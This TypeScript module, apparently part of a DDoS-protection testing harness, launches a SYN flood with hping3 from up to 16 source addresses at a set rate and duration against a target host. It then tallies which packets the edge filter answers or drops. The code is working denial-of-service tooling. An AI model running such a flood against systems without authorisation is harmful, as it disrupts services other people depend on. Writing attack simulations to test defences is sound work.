import { spawn, type ChildProcess } from 'node:child_process';
import { accessSync, constants } from 'node:fs';
import type { AttackParams } from '../../../../contracts/agent-api.ts';
import type { Traffic } from '../probe-job.ts';
import { newCounters, snapshot } from './counters.ts';
import type { RunningAttack } from './counters.ts';

/** Debian's hping3 (in the client image): crafts the SYNs in user space and sends them raw. */
export const HPING3 = '/usr/sbin/hping3';
/** However many source addresses there are, no more senders than this run at once. */
const MAX_SENDERS = 16;
/** A sender still running this long after the attack's end is killed. */
const KILL_GRACE_MS = 2000;

export class AttackUnavailableError extends Error {
  override readonly name = 'AttackUnavailableError';
}

export function hping3Installed(path = HPING3): boolean {
  try {
    accessSync(path, constants.X_OK);
    return true;
  } catch {
    return false;
  }
}

/**
 * `hping3 -S` from each of up to 16 of the bot's source addresses, the rate split between them,
 * each sender told its packet count so that it stops by itself at the duration. The edge's kernel
 * answers each SYN with a SYN-ACK (a half-open connection until the bot's kernel resets it) unless
 * its filter drops the source. Counted from hping3's own statistics: sent (packets transmitted),
 * ok (answered), blocked (unanswered: dropped by the filter, or lost).
 */
export function startSynFlood(params: AttackParams, traffic: Traffic, sources: readonly string[], binary = HPING3): RunningAttack {
  if (!hping3Installed(binary)) throw new AttackUnavailableError(`syn-flood needs ${binary} (Debian's hping3) in the bot image; rebuild it with \`npm run setup\``);
  const counters = newCounters();
  const senders: Array<string | undefined> = sources.length === 0 ? [undefined] : sources.slice(0, MAX_SENDERS);
  const perSender = params.rps / senders.length;
  const count = Math.max(1, Math.round((perSender * params.durationMs) / 1000));
  const intervalUs = Math.max(1, Math.round(1e6 / perSender));
  const startedAt = Date.now();
  const children: ChildProcess[] = [];
  const finished = senders.map(
    (source) =>
      new Promise<void>((resolve) => {
        const args = ['-S', '-p', String(traffic.target.port), '-i', `u${intervalUs}`, '-c', String(count), ...(source === undefined ? [] : ['-a', source]), traffic.target.host];
        const child = spawn(binary, args, { stdio: ['ignore', 'ignore', 'pipe'] });
        children.push(child);
        let output = '';
        child.stderr?.on('data', (chunk: Buffer) => (output = (output + chunk.toString('latin1')).slice(-4096)));
        child.on('error', () => {
          counters.errors++;
          resolve();
        });
        child.on('close', () => {
          const stats = /(\d+) packets transmitted, (\d+) packets received/.exec(output);
          if (stats) {
            const sent = Number(stats[1]);
            const answered = Number(stats[2]);
            counters.sent += sent;
            counters.ok += Math.min(answered, sent);
            counters.blocked += Math.max(0, sent - answered);
          } else counters.errors++;
          resolve();
        });
      }),
  );
  const stop = (): void => {
    for (const child of children) if (child.exitCode === null) child.kill('SIGINT');
  };
  const deadline = setTimeout(() => {
    for (const child of children) if (child.exitCode === null) child.kill('SIGKILL');
  }, params.durationMs + KILL_GRACE_MS);
  const done = Promise.all(finished).then(() => clearTimeout(deadline));
  let running = true;
  void done.then(() => (running = false));
  return {
    done,
    stop,
    counters: () => {
      // While the senders run, hping3 reports nothing: estimate what they sent from the clock.
      const sentSoFar = running ? Math.min(senders.length * count, Math.floor(((Date.now() - startedAt) / 1000) * params.rps)) : 0;
      const view = snapshot(counters, { skipped: 0, inFlight: 0 });
      return running ? { ...view, sent: sentSoFar } : view;
    },
  };
}
